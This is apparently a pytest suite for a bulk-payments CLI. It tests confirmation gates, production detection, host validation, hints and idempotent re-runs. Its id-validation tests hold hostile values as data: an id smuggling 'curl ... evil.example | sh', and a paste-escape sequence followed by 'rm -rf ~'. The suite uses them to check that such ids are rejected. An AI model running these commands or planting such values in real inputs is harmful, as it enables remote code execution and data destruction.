"""The one gate: its table of questions is the manual's (docs/managing-bulks.md), production is
decided from the host the requests reach, every change asks as the table says, ids from answers
are checked, and a re-run converges on the bulk the server hands back."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from bulkctl.actions import (
    CREATE,
    CREATE_EXECUTE,
    QUESTIONS,
    Question,
    needs_asking,
    question_for,
    questions_markdown,
)
from bulkctl.actions.rules import TABLE_END, TABLE_START
from bulkctl.api.records import is_bulk_id
from bulkctl.api.wire import check_base_url
from bulkctl.config import ConfigStore, resolve
from bulkctl.errors import ExitCode, UsageError
from tests.conftest import Served, in_process, run_bulkctl

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples"


# -- one rule for questions -------------------------------------------------------------------


def test_the_manuals_table_of_questions_is_the_gates_table() -> None:
    page = (ROOT / "docs" / "managing-bulks.md").read_text(encoding="utf-8")
    start, end = page.index(TABLE_START), page.index(TABLE_END) + len(TABLE_END)
    assert page[start:end] == questions_markdown(), "docs/managing-bulks.md's table drifted"


def test_the_table_asks_for_the_word_on_production_for_every_change_that_moves_money() -> None:
    for change in ("execute", "resume", "cancel", CREATE, CREATE_EXECUTE):
        assert question_for(change, production=True) is Question.WORD
    assert question_for("pause", production=True) is question_for("pause", production=False)
    assert all(row.elsewhere is not Question.WORD for row in QUESTIONS)
    assert question_for(CREATE, production=False) is Question.NONE


@pytest.mark.parametrize("change", ["execute", "resume", "cancel", "pause", CREATE_EXECUTE])
def test_without_a_terminal_every_change_that_asks_needs_yes(tmp_path: Path, change: str) -> None:
    p = in_process(tmp_path)  # loopback: the sandbox's questions
    with pytest.raises(UsageError, match="without confirmation") as caught:
        needs_asking(p.ctx, change, yes=False)
    assert "pass --yes" in (caught.value.hint or "")
    assert needs_asking(p.ctx, change, yes=True) is False
    assert p.emulator.request_count == 0


@pytest.mark.parametrize(("action", "status"), [("resume", "PAUSED"), ("pause", "RUNNING")])
def test_resume_and_pause_in_a_pipe_need_yes_and_send_nothing(
    served: Served, action: str, status: str
) -> None:
    bulk_id = served.state.listing(status)[0]
    result = run_bulkctl(action, bulk_id, env=served.env())
    assert result.code == ExitCode.USAGE, result.stderr
    assert "pass --yes" in result.stderr
    assert not [r for r in served.emulator.requests if r[0] == "POST"]
    assert run_bulkctl(action, bulk_id, "--yes", env=served.env()).code == 0


def test_a_status_the_spec_does_not_know_is_left_to_the_server_with_one_note(
    tmp_path: Path,
) -> None:
    from bulkctl.actions import action_options, run_action

    p = in_process(tmp_path)
    bulk_id = p.emulator.state.listing("SUBMITTED")[0]
    p.emulator.state.bulks[bulk_id].status = "QUEUED"  # a newer API's status
    code = run_action(p.ctx, action_options("execute", [bulk_id], yes=True))
    notes = p.ctx.stderr.getvalue()  # type: ignore[attr-defined]
    assert notes.count("which bulkctl does not know") == 1
    posts = [r for r in p.emulator.requests if r[0] == "POST"]
    assert len(posts) == 1 and code == ExitCode.CONFLICT  # the server decided: INVALID_STATE


# -- production from the host the requests reach ---------------------------------------------


def settings_for(tmp_path: Path, base_url: str, profile_env: str | None = None) -> object:
    store = ConfigStore(tmp_path)
    if profile_env is not None:
        store.set_values("gw", {"environment": profile_env})
        return resolve(store, {}, profile_flag="gw", base_url_flag=base_url)
    return resolve(store, {}, base_url_flag=base_url)


@pytest.mark.parametrize(
    ("base_url", "profile_env", "verdict"),
    [
        ("https://api.weavr.io/multi", None, "production"),
        ("https://API.Weavr.IO./multi", None, "production"),  # case and a trailing dot
        ("https://sandbox.weavr.io/multi", None, "sandbox"),
        ("http://127.0.0.1:8080/multi", None, "loopback"),
        ("https://gateway.example.com/multi", None, "production"),  # a company gateway
        ("https://gateway.example.com/multi", "production", "production"),
        ("https://gateway.example.com/multi", "sandbox", "sandbox"),  # said explicitly
        ("https://api.weavr.io/multi", "sandbox", "production"),  # the host wins
        ("http://127.0.0.1:8080/multi", "production", "production"),  # a tunnel, said so
        ("https://localhost:8443/multi", "production", "production"),
        ("http://127.0.0.1:8080/multi", "sandbox", "loopback"),  # sandbox never raises it
    ],
)
def test_production_is_decided_from_the_host_requests_reach(
    tmp_path: Path, base_url: str, profile_env: str | None, verdict: str
) -> None:
    settings = settings_for(tmp_path, base_url, profile_env)
    assert settings.environment == verdict  # type: ignore[attr-defined]
    assert settings.is_production is (verdict == "production")  # type: ignore[attr-defined]


@pytest.mark.parametrize("dot", ["\u3002", "\uff0e", "\uff61"])
def test_a_host_that_is_not_plain_ascii_is_refused_naming_the_ascii_form(dot: str) -> None:
    with pytest.raises(UsageError) as caught:
        check_base_url(f"https://api{dot}weavr{dot}io/multi")
    assert "api.weavr.io" in " ".join(caught.value.lines())


@pytest.mark.parametrize("dot", ["\u3002", "\uff0e", "\uff61"])
def test_auth_status_refuses_such_a_host_before_any_request(served: Served, dot: str) -> None:
    result = run_bulkctl(
        "auth", "status", env=served.env(BULKCTL_BASE_URL=f"https://api{dot}weavr{dot}io/multi")
    )
    assert result.code == ExitCode.USAGE and "api.weavr.io" in result.stderr
    assert served.emulator.request_count == 0


@pytest.mark.parametrize(
    ("answer", "goes"),
    [("production", True), ("  production \n", True), ("PRODUCTION", False), ("Production", False)],
)
def test_only_the_word_itself_answers_a_question_on_production(answer: str, goes: bool) -> None:
    from bulkctl.actions import typed_production

    assert typed_production(answer) is goes


def test_auth_status_shows_the_verdict_every_question_shows(tmp_path: Path) -> None:
    from bulkctl.actions import where_text

    gateway = "https://gateway.example.com/multi"
    status = run_bulkctl("auth", "status", "--offline", "--json", env={"BULKCTL_BASE_URL": gateway})
    info = json.loads(status.stdout)
    assert info["environment"] == "production" and info["production"] is True
    p = in_process(tmp_path, env={"BULKCTL_BASE_URL": gateway})
    assert where_text(p.ctx.settings()).startswith("PRODUCTION (gateway.example.com")


# -- ids from answers ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("1100000000000001", True),
        ("1" * 64, True),
        ("1" * 65, False),
        ("", False),
        ("12a", False),
        ("1100000000000001 $(curl -s evil.example/x|sh)", False),
        ("١٢٣", False),  # digits, but not ASCII
        ("12\x1b[201~\nrm -rf ~", False),
    ],
)
def test_an_id_from_an_answer_is_used_only_when_it_is_digits(value: str, ok: bool) -> None:
    assert is_bulk_id(value) is ok


HOSTILE_ID = "1100000000000001 $(curl -s evil.example/x|sh)"


class HostileSubmissions(BaseHTTPRequestHandler):
    posts: ClassVar[list[str]] = []

    def do_POST(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        self.rfile.read(length)
        type(self).posts.append(self.path)
        body = json.dumps({"bulkId": HOSTILE_ID, "operationCount": 3}).encode()
        self.send_response(201)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def hostile_server() -> Iterator[str]:
    HostileSubmissions.posts = []
    server = HTTPServer(("127.0.0.1", 0), HostileSubmissions)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/multi"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def test_a_non_digit_bulk_id_in_a_201_is_malformed_and_nothing_is_journaled_or_hinted(
    hostile_server: str, tmp_path: Path
) -> None:
    env = {"BULKCTL_BASE_URL": hostile_server, "BULKCTL_API_KEY": "k", "BULKCTL_AUTH_TOKEN": "t"}
    result = run_bulkctl("submit", "transfers", str(EXAMPLES / "transfers.jsonl"), env=env)
    assert result.code == ExitCode.ERROR, result.stderr
    assert "bulkId" in result.stderr and "not what the API describes" in result.stderr
    assert "to start them" not in result.stderr and "execute" not in result.stderr
    assert result.stdout == ""
    assert len(HostileSubmissions.posts) == 1
    journaled = [p for p in (tmp_path / "state").rglob("*") if p.is_file()]
    assert not [p for p in journaled if "evil" in p.read_text(errors="replace")]
    assert not [p for p in journaled if "submissions" in str(p)]


# -- hints built from parts ---------------------------------------------------------------------


def profile_on(served: Served, name: str = "emu ops") -> None:
    """A named profile (with a space, so quoting matters) logged in to the emulator; the
    default profile points at a closed loopback port, so a hint that loses the profile
    fails instead of reaching the emulator."""
    from bulkctl.emulator.app import DEMO_API_KEY, DEMO_TOKEN

    assert run_bulkctl("--profile", name, "config", "set", "base_url", served.multi).code == 0
    for key, secret in (("api_key", DEMO_API_KEY), ("auth_token", DEMO_TOKEN)):
        set_secret = run_bulkctl("--profile", name, "config", "set", key, input=secret + "\n")
        assert set_secret.code == 0, set_secret.stderr
    assert run_bulkctl("config", "set", "base_url", "http://127.0.0.1:9/multi").code == 0


def hints_in(text: str) -> list[str]:
    """Every command a hint names: from 'bulkctl' to the end of the line (or two spaces)."""
    found = []
    for line in text.splitlines():
        for match in re.finditer(r"bulkctl --profile .+?(?=   |$)", line):
            found.append(match.group(0).rstrip())
    return found


def run_hint(hint: str, **extra: str) -> object:
    import shlex

    words = shlex.split(hint)
    assert words[0] == "bulkctl"
    return run_bulkctl(*words[1:], **extra)  # type: ignore[arg-type]


def test_every_printed_hint_run_as_printed_reaches_the_named_profile(
    served: Served, tmp_path: Path
) -> None:
    profile_on(served)
    named = ("--profile", "emu ops")
    failed = served.state.listing("FAILED")[0]
    hints: list[str] = []
    # submit's "to start them"
    made = run_bulkctl(*named, "submit", "transfers", str(EXAMPLES / "transfers.jsonl"))
    assert made.code == 0, made.stderr
    hints += hints_in(made.stderr)
    # rerun's "after fixing them"
    fix = tmp_path / "fix me.jsonl"
    wrote = run_bulkctl(*named, "rerun", failed, "--failed", "--output-file", str(fix))
    assert wrote.code == 0, wrote.stderr
    hints += hints_in(wrote.stderr)
    # show's "next:" on a terminal-less run names operations on stderr
    shown = run_bulkctl(*named, "show", failed)
    hints += hints_in(shown.stderr)
    # an id that is not digits: "find ids with"
    wrong_id = run_bulkctl(*named, "show", "12x")
    assert wrong_id.code == ExitCode.USAGE
    hints += hints_in(wrong_id.stderr)
    assert any(h.endswith(" list") for h in hints), hints
    assert any(" execute " in h for h in hints), hints
    assert any(" submit transfers " in h for h in hints), hints
    assert hints, "no hint found"
    for hint in hints:
        assert hint.startswith("bulkctl --profile 'emu ops' "), hint
        before = served.emulator.request_count
        ran = run_hint(hint, input="")
        # it reached the emulator: the default profile's closed port would give exit 6
        assert ran.code != ExitCode.NETWORK, (hint, ran.stderr)  # type: ignore[attr-defined]
        assert served.emulator.request_count > before, hint


# -- re-runs converge ----------------------------------------------------------------------------


def test_cancel_and_rerun_on_a_fresh_state_folder_ends_with_the_bulks_outcome(
    served: Served, tmp_path: Path
) -> None:
    import signal

    from tests.conftest import Spawned

    source = str(EXAMPLES / "transfers.jsonl")
    args = ("submit", "transfers", source, "--execute", "--yes", "--wait", "--timeout", "60s")
    first_state = {"XDG_STATE_HOME": str(tmp_path / "runner-1")}
    with Spawned(*args, env=served.env(**first_state)) as first:
        for _ in range(400):  # until the execute was sent, then the job is cancelled
            if any(r[0] == "POST" and r[1].endswith("/execute") for r in served.emulator.requests):
                break
            threading.Event().wait(0.05)
        first.proc.send_signal(signal.SIGTERM)
        first.finish()
    served.clock.advance(3600)  # the bulk runs to its end meanwhile
    fresh = {"XDG_STATE_HOME": str(tmp_path / "runner-2")}  # a new runner: no journal
    again = run_bulkctl(*args, env=served.env(**fresh))
    executes = [r for r in served.emulator.requests if r[0] == "POST" and r[1].endswith("/execute")]
    assert len(executes) == 1, "one execute request in all"
    said = re.search(r"bulk \d+ is already (\w+); not executed again", again.stderr)
    assert said is not None, again.stderr
    expected = {"COMPLETED": 0, "PARTIALLY_COMPLETED": 11, "FAILED": 12}[said.group(1)]
    assert again.code == expected, again.stderr
